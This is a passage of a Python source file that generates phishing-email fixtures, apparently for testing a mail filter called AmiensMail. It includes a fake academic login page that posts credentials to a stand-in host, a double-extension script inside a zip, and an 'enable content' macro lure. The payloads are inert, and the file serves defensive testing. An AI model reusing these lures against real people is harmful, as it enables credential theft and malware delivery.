    workbook = (XML_DECL + f'<workbook {ns}><workbookPr{code_name} defaultThemeVersion="202300"/><bookViews>'
                '<workbookView xWindow="0" yWindow="0" windowWidth="28800" windowHeight="12300"/></bookViews>'
                f'<sheets><sheet name="{xml_escape(sheet)}" sheetId="1" r:id="rId1"/></sheets>'
                '<calcPr calcId="191029"/></workbook>').encode()
    styles = (XML_DECL + '<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
              '<fonts count="1"><font><sz val="11"/><name val="Aptos Narrow"/><family val="2"/></font></fonts>'
              '<fills count="2"><fill><patternFill patternType="none"/></fill><fill><patternFill '
              'patternType="gray125"/></fill></fills><borders count="1"><border><left/><right/><top/><bottom/>'
              '<diagonal/></border></borders><cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" '
              'borderId="0"/></cellStyleXfs><cellXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"'
              ' xfId="0"/></cellXfs><cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/>'
              "</cellStyles></styleSheet>").encode()
    main_ct = ("application/vnd.ms-excel.sheet.macroEnabled.main+xml" if vba else
               "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")
    defaults = [CT_RELS, CT_XML]
    overrides = [("/xl/workbook.xml", main_ct),
                 ("/xl/worksheets/sheet1.xml",
                  "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"),
                 ("/xl/styles.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"),
                 ("/xl/sharedStrings.xml",
                  "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"),
                 CT_CORE, CT_APP]
    wb_rels = [("rId1", OFFDOC + "/worksheet", "worksheets/sheet1.xml"), ("rId2", OFFDOC + "/styles", "styles.xml"),
               ("rId3", OFFDOC + "/sharedStrings", "sharedStrings.xml")]
    if vba:
        defaults.append(("bin", "application/vnd.ms-office.vbaProject"))
        wb_rels.append(("rId4", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin"))
    core, app = doc_props(title, creator, "Microsoft Excel", when, company)
    d = OFFICE_ZIP_DATE
    entries = [("[Content_Types].xml", content_types(defaults, overrides), d, 8),
               ("_rels/.rels", rels([("rId1", OFFDOC + "/officeDocument", "xl/workbook.xml")] + ROOT_RELS), d, 8),
               ("xl/workbook.xml", workbook, d, 8), ("xl/_rels/workbook.xml.rels", rels(wb_rels), d, 8),
               ("xl/worksheets/sheet1.xml", sheet_xml, d, 8), ("xl/styles.xml", styles, d, 8),
               ("xl/sharedStrings.xml", sst_xml, d, 8)]
    if vba:
        entries.append(("xl/vbaProject.bin", vba, d, 8))
    entries += [("docProps/core.xml", core, d, 8), ("docProps/app.xml", app, d, 8)]
    return make_zip(entries)


def make_pptx(slides, *, title, creator, when):
    """slides: (title, [bullet lines]). Minimal but complete: master, layout, theme, slides."""
    P = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="' + OFFDOC + \
        '" xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"'
    empty_tree = ('<p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr>'
                  '<p:grpSpPr/></p:spTree></p:cSld>')

    def shape(sid, name, ph, paragraphs, y):
        paras = "".join(f'<a:p><a:r><a:rPr lang="fr-FR" dirty="0"/><a:t>{xml_escape(t)}</a:t></a:r></a:p>'
                        for t in paragraphs)
        return (f'<p:sp><p:nvSpPr><p:cNvPr id="{sid}" name="{name}"/><p:cNvSpPr><a:spLocks noGrp="1"/></p:cNvSpPr>'
                f'<p:nvPr><p:ph {ph}/></p:nvPr></p:nvSpPr><p:spPr><a:xfrm><a:off x="838200" y="{y}"/>'
                f'<a:ext cx="10515600" cy="1325563"/></a:xfrm></p:spPr><p:txBody><a:bodyPr/><a:lstStyle/>{paras}'
                "</p:txBody></p:sp>")

    theme = (XML_DECL + '<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" name="Thème Office">'
             '<a:themeElements><a:clrScheme name="Office">'
             '<a:dk1><a:sysClr val="windowText" lastClr="000000"/></a:dk1><a:lt1><a:sysClr val="window" '
             'lastClr="FFFFFF"/></a:lt1><a:dk2><a:srgbClr val="0E2841"/></a:dk2><a:lt2><a:srgbClr val="E8E8E8"/>'
             '</a:lt2>' + "".join(f'<a:accent{i}><a:srgbClr val="{c}"/></a:accent{i}>' for i, c in
                                  enumerate(["156082", "E97132", "196B24", "0F9ED5", "A02B93", "4EA72E"], 1)) +
             '<a:hlink><a:srgbClr val="467886"/></a:hlink><a:folHlink><a:srgbClr val="96607D"/></a:folHlink>'
             '</a:clrScheme><a:fontScheme name="Office"><a:majorFont><a:latin typeface="Aptos Display"/>'
             '<a:ea typeface=""/><a:cs typeface=""/></a:majorFont><a:minorFont><a:latin typeface="Aptos"/>'
             '<a:ea typeface=""/><a:cs typeface=""/></a:minorFont></a:fontScheme><a:fmtScheme name="Office">'
             '<a:fillStyleLst>' + '<a:solidFill><a:schemeClr val="phClr"/></a:solidFill>' * 3 +
             '</a:fillStyleLst><a:lnStyleLst>' + '<a:ln w="12700"><a:solidFill><a:schemeClr val="phClr"/>'
             '</a:solidFill></a:ln>' * 3 + '</a:lnStyleLst><a:effectStyleLst>' +
             '<a:effectStyle><a:effectLst/></a:effectStyle>' * 3 + '</a:effectStyleLst><a:bgFillStyleLst>' +
             '<a:solidFill><a:schemeClr val="phClr"/></a:solidFill>' * 3 +
             '</a:bgFillStyleLst></a:fmtScheme></a:themeElements></a:theme>').encode()
    master = (XML_DECL + f"<p:sldMaster {P}>{empty_tree}"
              '<p:clrMap bg1="lt1" tx1="dk1" bg2="lt2" tx2="dk2" accent1="accent1" accent2="accent2" '
              'accent3="accent3" accent4="accent4" accent5="accent5" accent6="accent6" hlink="hlink" '
              'folHlink="folHlink"/><p:sldLayoutIdLst><p:sldLayoutId id="2147483649" r:id="rId1"/>'
              "</p:sldLayoutIdLst></p:sldMaster>").encode()
    layout = (XML_DECL + f'<p:sldLayout {P} type="obj" preserve="1">'
              f'<p:cSld name="Titre et contenu"><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/>'
              '<p:nvPr/></p:nvGrpSpPr><p:grpSpPr/></p:spTree></p:cSld><p:clrMapOvr><a:masterClrMapping/>'
              "</p:clrMapOvr></p:sldLayout>").encode()
    d = OFFICE_ZIP_DATE
    overrides = [("/ppt/presentation.xml",
                  "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"),
                 ("/ppt/slideMasters/slideMaster1.xml",
                  "application/vnd.openxmlformats-officedocument.presentationml.slideMaster+xml"),
                 ("/ppt/slideLayouts/slideLayout1.xml",
                  "application/vnd.openxmlformats-officedocument.presentationml.slideLayout+xml"),
                 ("/ppt/theme/theme1.xml", "application/vnd.openxmlformats-officedocument.theme+xml"),
                 CT_CORE, CT_APP]
    pres_rels = [("rId1", OFFDOC + "/slideMaster", "slideMasters/slideMaster1.xml"),
                 ("rId2", OFFDOC + "/theme", "theme/theme1.xml")]
    slide_entries = []
    sld_ids = ""
    for i, (stitle, lines) in enumerate(slides, 1):
        overrides.append((f"/ppt/slides/slide{i}.xml",
                          "application/vnd.openxmlformats-officedocument.presentationml.slide+xml"))
        pres_rels.append((f"rId{i + 2}", OFFDOC + "/slide", f"slides/slide{i}.xml"))
        sld_ids += f'<p:sldId id="{255 + i}" r:id="rId{i + 2}"/>'
        tree = ('<p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr>'
                '<p:grpSpPr/>' + shape(2, "Titre 1", 'type="title"', [stitle], 365125) +
                shape(3, "Espace réservé du contenu 2", 'idx="1"', lines, 1825625) + "</p:spTree></p:cSld>")
        slide = (XML_DECL + f"<p:sld {P}>{tree}<p:clrMapOvr><a:masterClrMapping/></p:clrMapOvr></p:sld>").encode()
        slide_entries += [(f"ppt/slides/slide{i}.xml", slide, d, 8),
                          (f"ppt/slides/_rels/slide{i}.xml.rels",
                           rels([("rId1", OFFDOC + "/slideLayout", "../slideLayouts/slideLayout1.xml")]), d, 8)]
    presentation = (XML_DECL + f'<p:presentation {P} saveSubsetFonts="1"><p:sldMasterIdLst><p:sldMasterId '
                    f'id="2147483648" r:id="rId1"/></p:sldMasterIdLst><p:sldIdLst>{sld_ids}</p:sldIdLst>'
                    '<p:sldSz cx="12192000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/>'
                    "</p:presentation>").encode()
    core, app = doc_props(title, creator, "Microsoft Office PowerPoint", when)
    entries = [("[Content_Types].xml", content_types([CT_RELS, CT_XML], overrides), d, 8),
               ("_rels/.rels", rels([("rId1", OFFDOC + "/officeDocument", "ppt/presentation.xml")] + ROOT_RELS), d, 8),
               ("ppt/presentation.xml", presentation, d, 8),
               ("ppt/_rels/presentation.xml.rels", rels(pres_rels), d, 8)] + slide_entries + [
        ("ppt/slideLayouts/slideLayout1.xml", layout, d, 8),
        ("ppt/slideLayouts/_rels/slideLayout1.xml.rels",
         rels([("rId1", OFFDOC + "/slideMaster", "../slideMasters/slideMaster1.xml")]), d, 8),
        ("ppt/slideMasters/slideMaster1.xml", master, d, 8),
        ("ppt/slideMasters/_rels/slideMaster1.xml.rels",
         rels([("rId1", OFFDOC + "/slideLayout", "../slideLayouts/slideLayout1.xml"),
               ("rId2", OFFDOC + "/theme", "../theme/theme1.xml")]), d, 8),
        ("ppt/theme/theme1.xml", theme, d, 8),
        ("docProps/core.xml", core, d, 8), ("docProps/app.xml", app, d, 8)]
    return make_zip(entries)


ODF_NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
          'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" '
          'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
          'xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0" '
          'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
          'xmlns:dc="http://purl.org/dc/elements/1.1/" '
          'xmlns:config="urn:oasis:names:tc:opendocument:xmlns:config:1.0" '
          'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
          'xmlns:ooo="http://openoffice.org/2004/office" '
          'xmlns:xlink="http://www.w3.org/1999/xlink"')


def make_odt(paragraphs, *, title, creator, when, basic_module=None):
    """A LibreOffice Writer document; basic_module (Basic source) adds the Basic/Standard library."""
    stamp = "%04d-%02d-%02dT%02d:%02d:%02d" % when
    d = when
    body = "".join(f'<text:h text:outline-level="1">{xml_escape(p[2:])}</text:h>' if p.startswith("# ") else
                   f"<text:p>{xml_escape(p)}</text:p>" for p in paragraphs)
    # No event binds the macro (no auto-open): the fixture stays inert.
    content = ('<?xml version="1.0" encoding="UTF-8"?>\n'
               f'<office:document-content {ODF_NS} office:version="1.3"><office:scripts/>'
               "<office:font-face-decls/><office:automatic-styles/><office:body><office:text>"
               f"{body}</office:text></office:body></office:document-content>").encode()
    styles = ('<?xml version="1.0" encoding="UTF-8"?>\n'
              f'<office:document-styles {ODF_NS} office:version="1.3"><office:styles><style:default-style '
              'style:family="paragraph"><style:text-properties fo:language="fr" fo:country="FR"/>'
              "</style:default-style></office:styles></office:document-styles>").encode()
    meta = ('<?xml version="1.0" encoding="UTF-8"?>\n'
            f'<office:document-meta {ODF_NS} office:version="1.3"><office:meta>'
            f"<meta:generator>LibreOffice/7.6.4.1$Linux_X86_64 LibreOffice_project/e19e193f88cd6c0525a17fb7a176ed8e6a3e2aa1</meta:generator>"
            f"<dc:title>{xml_escape(title)}</dc:title><dc:creator>{xml_escape(creator)}</dc:creator>"
            f"<meta:creation-date>{stamp}</meta:creation-date><dc:date>{stamp}</dc:date>"
            "</office:meta></office:document-meta>").encode()
    settings = ('<?xml version="1.0" encoding="UTF-8"?>\n'
                f'<office:document-settings {ODF_NS} office:version="1.3"><office:settings>'
                '<config:config-item-set config:name="ooo:view-settings"><config:config-item '
                'config:name="ViewAreaTop" config:type="long">0</config:config-item></config:config-item-set>'
                "</office:settings></office:document-settings>").encode()
    thumb = make_png(24, 34, lambda x, y: (255, 255, 255) if (y % 4) or x < 3 or x > 20 else (170, 170, 170))
    files = [("content.xml", "text/xml"), ("styles.xml", "text/xml"), ("meta.xml", "text/xml"),
             ("settings.xml", "text/xml"), ("Thumbnails/thumbnail.png", "image/png")]
    manifest_extra = '<manifest:file-entry manifest:full-path="Configurations2/" ' \
                     'manifest:media-type="application/vnd.sun.xml.ui.configuration"/>'
    basic_entries = []
    if basic_module:
        lc = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE library:libraries PUBLIC "-//OpenOffice.org//DTD '
              'OfficeDocument 1.0//EN" "libraries.dtd">\n<library:libraries xmlns:library="http://openoffice.org/'
              '2000/library" xmlns:xlink="http://www.w3.org/1999/xlink">\n <library:library library:name="Standard" '
              'library:link="false"/>\n</library:libraries>').encode()
        lb = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE library:library PUBLIC "-//OpenOffice.org//DTD '
              'OfficeDocument 1.0//EN" "library.dtd">\n<library:library xmlns:library="http://openoffice.org/2000/'
              'library" library:name="Standard" library:readonly="false" library:passwordprotected="false">\n'
              ' <library:element library:name="Module1"/>\n</library:library>').encode()
        mod = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD '
               'OfficeDocument 1.0//EN" "module.dtd">\n<script:module xmlns:script="http://openoffice.org/2000/'
               'script" script:name="Module1" script:language="StarBasic" script:moduleType="normal">' +
               xml_escape(basic_module) + "</script:module>").encode()
        basic_entries = [("Basic/Standard/Module1.xml", mod), ("Basic/Standard/script-lb.xml", lb),
                         ("Basic/script-lc.xml", lc)]
        for name, _ in basic_entries:
            files.append((name, "text/xml"))
        manifest_extra += ('<manifest:file-entry manifest:full-path="Basic/Standard/" manifest:media-type=""/>'
                           '<manifest:file-entry manifest:full-path="Basic/" manifest:media-type=""/>')
    manifest = ('<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
                'opendocument:xmlns:manifest:1.0" manifest:version="1.3">\n <manifest:file-entry '
                'manifest:full-path="/" manifest:version="1.3" manifest:media-type="application/vnd.oasis.'
                'opendocument.text"/>\n' +
                "".join(f' <manifest:file-entry manifest:full-path="{n}" manifest:media-type="{t}"/>\n'
                        for n, t in files) + " " + manifest_extra + "\n</manifest:manifest>\n").encode()
    entries = [("mimetype", b"application/vnd.oasis.opendocument.text", d, 0),
               ("Configurations2/", None, d, 0),
               ("Thumbnails/thumbnail.png", thumb, d, 8)]
    entries += [(n, data, d, 8) for n, data in basic_entries]
    entries += [("styles.xml", styles, d, 8), ("content.xml", content, d, 8), ("meta.xml", meta, d, 8),
                ("settings.xml", settings, d, 8), ("META-INF/manifest.xml", manifest, d, 8)]
    return make_zip(entries)


# ----------------------------------------------------------------------------------------------
# MIME

def b64(data, width=76):
    s = base64.b64encode(data).decode("ascii")
    return "\n".join(s[i:i + width] for i in range(0, len(s), width))


def qp(text):
    return quopri.encodestring(text.encode("utf-8")).decode("ascii")


def ew(text, mode="Q", charset="utf-8", limit=42):
    """RFC 2047 encoded words, folded: Q (spaces as _) or B."""
    if text.isascii() and mode == "auto":
        return text
    words = []
    if mode == "B":
        cur = b""
        for ch in text:
            enc = ch.encode("utf-8")
            if len(cur) + len(enc) > limit:
                words.append(cur)
                cur = b""
            cur += enc
        words.append(cur)
        return "\n ".join(f"=?{charset}?B?{base64.b64encode(w).decode()}?=" for w in words)
    cur = ""
    for ch in text:
        if ch.isascii() and (ch.isalnum() or ch in "!*+-/"):
            enc = ch
        elif ch == " ":
            enc = "_"
        else:
            enc = "".join(f"={b:02X}" for b in ch.encode("utf-8"))
        if len(cur) + len(enc) > limit:
            words.append(cur)
            cur = ""
        cur += enc
    words.append(cur)
    return "\n ".join(f"=?{charset}?Q?{w}?=" for w in words)


def addr(name, address, mode="Q"):
    if name.isascii():
        if any(c in name for c in ",.;:()<>@\"'"):
            return f'"{name}" <{address}>'
        return f"{name} <{address}>"
    return f"{ew(name, mode)} <{address}>"


_PCT_SAFE = set(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._~!$&+^`|#")


def pct(value):
    return "".join(chr(b) if b in _PCT_SAFE else f"%{b:02X}" for b in value.encode("utf-8"))


def p2231(attr, value, charset="utf-8"):
    return f"{attr}*={charset}''{pct(value)}"


def p2231_sections(attr, value, size, charset="utf-8"):
    """RFC 2231 continuations: attr*0*=utf-8''…; attr*1*=…"""
    encoded = pct(value)
    pieces = []
    while encoded:
        cut = min(size, len(encoded))
        while "%" in encoded[max(0, cut - 2):cut] and cut < len(encoded):  # never split a %XX
            cut -= 1
        pieces.append(encoded[:cut])
        encoded = encoded[cut:]
    return ";\n ".join(f"{attr}*{i}*={charset + chr(39) * 2 if i == 0 else ''}{p}" for i, p in enumerate(pieces))


def part(headers, body):
    return "\n".join(headers) + "\n\n" + body.rstrip("\n")


def multipart(boundary, parts, preamble=None):
    out = (preamble + "\n\n") if preamble else ""
    for p in parts:
        out += f"--{boundary}\n{p}\n"
    return out + f"--{boundary}--\n"


def message(headers, body):
    return "\n".join(h for h in headers if h) + "\n\n" + body.rstrip("\n") + "\n"


def rfc822_date(when, zone="+0100", weekday=None):
    import datetime
    t = datetime.datetime(*when)
    days = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"]
    months = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]
    return f"{days[t.weekday()]}, {t.day:02d} {months[t.month - 1]} {t.year} {t:%H:%M:%S} {zone}"


def text_part(text, charset="utf-8", encoding="8bit", subtype="plain", extra=""):
    body = qp(text) if encoding == "quoted-printable" else text
    return part([f'Content-Type: text/{subtype}; charset="{charset}"{extra}',
                 f"Content-Transfer-Encoding: {encoding}"], body)


def outlook_html(paragraphs, signature=()):
    ps = "".join(f'<p class="MsoNormal">{p}<o:p></o:p></p>\n' if p else
                 '<p class="MsoNormal"><o:p>&nbsp;</o:p></p>\n' for p in paragraphs)
    sig = "".join(f'<p class="MsoNormal"><span style="font-size:9.0pt;color:#595959">{s}</span><o:p></o:p></p>\n'
                  for s in signature)
    return ('<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
            'xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" '
            'xmlns="http://www.w3.org/TR/REC-html40">\n<head>\n'
            '<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
            '<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n'
            "<style><!--\n@font-face\n\t{font-family:Aptos;}\np.MsoNormal, li.MsoNormal, div.MsoNormal\n"
            '\t{margin:0cm;\n\tfont-size:11.0pt;\n\tfont-family:"Aptos",sans-serif;}\n'
            "@page WordSection1\n\t{size:612.0pt 792.0pt;\n\tmargin:70.85pt 70.85pt 70.85pt 70.85pt;}\n"
            "div.WordSection1\n\t{page:WordSection1;}\n--></style>\n</head>\n"
            '<body lang="FR" link="#467886" vlink="#96607D" style="word-wrap:break-word">\n'
            f'<div class="WordSection1">\n{ps}{sig}</div>\n</body>\n</html>\n')


def html_to_plain(paragraphs):
    import re
    out = []
    for p in paragraphs:
        p = re.sub(r'<a href="([^"]+)">([^<]+)</a>', r"\2 <\1>", p)
        p = re.sub(r"<[^>]+>", "", p)
        out.append(p.replace("&nbsp;", " ").replace("&amp;", "&").replace("&lt;", "<").replace("&gt;", ">")
                   .replace("&#171;", "«").replace("&#187;", "»"))
    return "\n".join(out)


def outlook_attachment(ctype, name, data, when, *, name_style="quoted"):
    stamp = rfc822_date(when, "GMT")
    if name_style == "2047":
        ct_name = f'name="{ew(name, "B", "utf-8", 60)}"'
        disp_name = f'filename="{ew(name, "B", "utf-8", 60)}"'
    else:
        ct_name = f'name="{name}"'
        disp_name = f'filename="{name}"'
    return part([f"Content-Type: {ctype};\n\t{ct_name}",
                 f"Content-Description: {name if name.isascii() else ew(name, 'B', 'utf-8', 60)}",
                 f"Content-Disposition: attachment;\n\t{disp_name}; size={len(data)};\n"
                 f'\tcreation-date="{stamp}";\n\tmodification-date="{stamp}"',
                 "Content-Transfer-Encoding: base64"], b64(data))


def outlook_message(*, sender, to, subject, when, msgid, tag, paragraphs, attachments, signature=(),
                    cc=None, reply_to=None, extra_headers=(), related_image=None):
    """Outlook 16 (Microsoft 365): mixed( alternative(plain, html) | related(…), attachments…)."""
    b_mixed = f"_004_{tag}_"
    b_alt = f"_000_{tag}_"
    b_rel = f"_003_{tag}_"
    html = outlook_html(paragraphs, signature)
    plain = html_to_plain(list(paragraphs) + [""] + list(signature))
    if related_image:
        cid, img_name, img = related_image
        html = html.replace("</div>\n</body>", f'<p class="MsoNormal"><img width="120" height="40" '
                                                f'style="width:1.25in;height:.4166in" id="Image_x0020_1" '
                                                f'src="cid:{cid}" alt="logo"><o:p></o:p></p>\n</div>\n</body>')
    alt = part([f'Content-Type: multipart/alternative;\n\tboundary="{b_alt}"'],
               multipart(b_alt, [text_part(plain, "utf-8", "quoted-printable"),
                                 text_part(html, "utf-8", "quoted-printable", "html")]))
    first = alt
    if related_image:
        cid, img_name, img = related_image
        first = part([f'Content-Type: multipart/related;\n\tboundary="{b_rel}";\n\ttype="multipart/alternative"'],
                     multipart(b_rel, [alt, part([f'Content-Type: image/png; name="{img_name}"',
                                                  f"Content-Description: {img_name}",
                                                  f'Content-Disposition: inline; filename="{img_name}"; '
                                                  f"size={len(img)};", f"Content-ID: <{cid}>",
                                                  "Content-Transfer-Encoding: base64"], b64(img))]))
    body = multipart(b_mixed, [first] + attachments)
    thread_index = base64.b64encode(det_bytes("thread/" + tag, 22)).decode()
    headers = [f"From: {sender}", f"To: {to}", f"CC: {cc}" if cc else "", f"Subject: {subject}",
               f"Thread-Topic: {subject}", f"Thread-Index: {thread_index}", f"Date: {rfc822_date(when)}",
               f"Message-ID: <{msgid}>", f"Reply-To: {reply_to}" if reply_to else "", "Accept-Language: fr-FR, en-US",
               "Content-Language: fr-FR", "X-MS-Has-Attach: yes", "X-MS-TNEF-Correlator:",
               "X-Mailer: Microsoft Outlook 16.0", *extra_headers,
               f'Content-Type: multipart/{"related" if False else "mixed"};\n\tboundary="{b_mixed}"',
               "MIME-Version: 1.0"]
    return message(headers, body)


# ----------------------------------------------------------------------------------------------
# The cases

MARIE = "Marie Dupont <marie.dupont@ac-amiens.fr>"
SECRETARIAT = addr("Secrétariat – Collège Les Hortillonnages", "ce.0801234x@ac-amiens.fr")
GESTION = addr("Gestion – Collège Les Hortillonnages", "gestion.0801234x@ac-amiens.fr")
PRINCIPAL = addr("Principal – Collège Les Hortillonnages", "principal.0801234x@ac-amiens.fr")

INERT_JS = ("// Fixture de test AmiensMail : script inerte (il n'affiche qu'un message).\r\n"
            'WScript.Echo("Fixture de test AmiensMail");\r\n').encode()
INERT_VBS = ("' Fixture de test AmiensMail : script inerte (il n'affiche qu'un message).\r\n"
             'WScript.Echo "Fixture de test AmiensMail"\r\n').encode("cp1252")
INERT_HTA = ('<html><head><title>Convocation</title><hta:application id="convocation" border="thin"/></head>\r\n'
             "<body><p>Fixture de test AmiensMail : application HTML inerte.</p></body></html>\r\n").encode()

CASES = []


def case(name, codes):
    def register(fn):
        CASES.append((name, codes, fn))
        return fn
    return register


@case("phish-att-arena-login-html", "attachment-html-form,external-sender")
def _():
    when = (2026, 11, 3, 8, 47, 12)
    page = f"""<!DOCTYPE html>
<html lang="fr">
<head>
<meta charset="utf-8">
<title>ARENA - Authentification</title>
<style>
body {{ font-family: Marianne, Arial, sans-serif; background: #f0f2f5; margin: 0; }}
.bandeau {{ background: #000091; color: #fff; padding: 14px 28px; font-size: 20px; }}
.bandeau small {{ display: block; font-size: 12px; opacity: .8; }}
.cadre {{ width: 380px; margin: 60px auto; background: #fff; padding: 28px; border-radius: 4px;
         box-shadow: 0 1px 4px rgba(0,0,0,.2); }}
label {{ display: block; margin-top: 14px; font-size: 14px; }}
input[type=text], input[type=password] {{ width: 100%; padding: 8px; border: 1px solid #929292; }}
button {{ margin-top: 20px; width: 100%; padding: 10px; background: #000091; color: #fff; border: 0; }}
</style>
</head>
<body>
<div class="bandeau">Académie d'Amiens &middot; Portail ARENA<small>Accès aux applications de gestion</small></div>
<div class="cadre">
<h1 style="font-size:18px">Authentification</h1>
<p>Pour consulter la facture FA-2026-11873, identifiez-vous avec votre compte académique.</p>
<form action="https://arena-ac-amiens-auth.example/pki/login.php" method="post">
<input type="hidden" name="doc" value="FA-2026-11873">
<label for="user">Identifiant</label>
<input type="text" id="user" name="user" autocomplete="username">
<label for="pwd">Mot de passe</label>
<input type="password" id="pwd" name="password" autocomplete="current-password">
<label for="otp">Code OTP (si vous en avez un)</label>
<input type="text" id="otp" name="otp">
<button type="submit">Se connecter</button>
</form>
<p style="font-size:11px;color:#666">&copy; Ministère de l'Éducation nationale &ndash; Académie d'Amiens</p>
</div>
</body>
</html>
""".encode()
    paragraphs = ["Bonjour,", "",
                  "Veuillez trouver ci-joint la facture FA-2026-11873 relative à votre commande de fournitures du "
                  "28 octobre (papeterie et cartouches d’encre).",
                  "Le document est sécurisé&nbsp;: ouvrez la pièce jointe dans votre navigateur pour l’afficher.",
                  "Le règlement est attendu sous 30 jours.", "", "Cordialement,"]
    return outlook_message(
        sender=addr("Fournitures Scolaires Picardie – Facturation", "facturation@fournitures-picardie.example"),
        to=GESTION, subject=ew("Facture FA-2026-11873 – commande du 28/10"), when=when,
        msgid="PR2P264MB0871C3A9E52F1B0D6A4C8E2FB9A12@PR2P264MB0871.FRAP264.PROD.OUTLOOK.COM",
        tag="PR2P264MB0871C3A9E52F1B0D6A4C8E2FB9A12PR2P264MB0871FRAP_",
        paragraphs=paragraphs, signature=["Service comptabilité", "Fournitures Scolaires Picardie",
                                          "Tél. 03 22 00 00 00"],
        attachments=[outlook_attachment("text/html", "Facture_FA-2026-11873.html", page, when)])


@case("phish-att-impaye-zip-js", "attachment-archive-program,external-sender")
def _():
    when = (2026, 11, 4, 6, 12, 40)
    zipped = make_zip([("Facture_impayee_0426.pdf.js", INERT_JS, (2026, 11, 4, 5, 58, 2), 8)])
    text = ("Madame, Monsieur,\n\nSauf erreur de notre part, la facture n°0426 d'un montant de 1 284,60 € TTC "
            "reste impayée à ce jour malgré nos précédentes relances.\n\nNous vous remercions de bien vouloir "
            "régulariser cette situation sous 48 heures. Le détail de la facture figure dans la pièce jointe "
            "(archive compressée).\n\nÀ défaut de règlement, le dossier sera transmis à notre service contentieux.\n\n"
            "Cabinet Delcourt – Service recouvrement\n")
    html = ("<html><body style=\"font-family:Arial\"><p>Madame, Monsieur,</p><p>Sauf erreur de notre part, la "
            "facture n°0426 d'un montant de <b>1 284,60 € TTC</b> reste impayée à ce jour malgré nos précédentes "
            "relances.</p><p>Nous vous remercions de bien vouloir régulariser cette situation sous <b>48 heures</b>. "
            "Le détail de la facture figure dans la pièce jointe (archive compressée).</p><p>À défaut de règlement, "
            "le dossier sera transmis à notre service contentieux.</p><p>Cabinet Delcourt – Service recouvrement"
            "</p></body></html>\n")
    b1 = "b1=_Xk2v9LqW8aPfR3nT7yZ0cH5mJ4dB6eG1sU"
    b2 = "b2=_Xk2v9LqW8aPfR3nT7yZ0cH5mJ4dB6eG1sU"
    alt = part([f'Content-Type: multipart/alternative;\n boundary="{b2}"'],
               multipart(b2, [text_part(text, "utf-8", "quoted-printable"),
                              text_part(html, "utf-8", "quoted-printable", "html")]))
    att = part(['Content-Type: application/zip; name="Facture_impayee_0426.zip"',
                "Content-Transfer-Encoding: base64",
                'Content-Disposition: attachment; filename="Facture_impayee_0426.zip"'], b64(zipped))
    return message([
        "Received: from mail.recouvrement-delcourt.example (unknown [203.0.113.45])\n"
        "\tby mx1.ac-amiens.fr (Postfix) with ESMTPS id 4Qb7Zt1kLmz9sWq\n\tfor <gestion.0801234x@ac-amiens.fr>; "
        "Wed,  4 Nov 2026 06:12:41 +0100 (CET)",
        f"Date: {rfc822_date(when)}", "To: " + GESTION,
        "From: " + addr("Cabinet Delcourt – Recouvrement", "relance@recouvrement-delcourt.example"),
        "Subject: " + ew("RELANCE IMPAYÉ – Facture n°0426 – dernier avis avant procédure"),
        "Message-ID: <Xk2v9LqW8aPfR3nT7yZ0cH5mJ4dB6eG1sU@recouvrement-delcourt.example>",
        "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)", "MIME-Version: 1.0",
        f'Content-Type: multipart/mixed;\n boundary="{b1}"'],
        multipart(b1, [alt, att], "This is a multi-part message in MIME format."))


def vba_bin(host, project="VBAProject", when=(2026, 11, 2, 9, 0, 0)):
    doc = "ThisDocument" if host == "word" else "ThisWorkbook"
    storage = vba_storage(project, [(doc, "document", document_module(doc, host)),
                                    ("Module1", "procedural", INERT_MACRO.format(name="Module1"))], host)
    return make_cfb(storage, mtime=when)


@case("phish-att-bon-commande-docm", "attachment-macros,enable-content-request,external-sender")
def _():
    when = (2026, 11, 5, 10, 3, 55)
    docm = make_docx(["**Éditions Lirelire – Bon de commande 2026-2027",
                      "Ce document a été créé avec une version plus récente de Microsoft Word.",
                      "Pour afficher le bon de commande et calculer vos remises, cliquez sur « Activer le contenu » "
                      "dans la barre jaune en haut de la fenêtre.",
                      "Établissement : ______________________   RNE : __________",
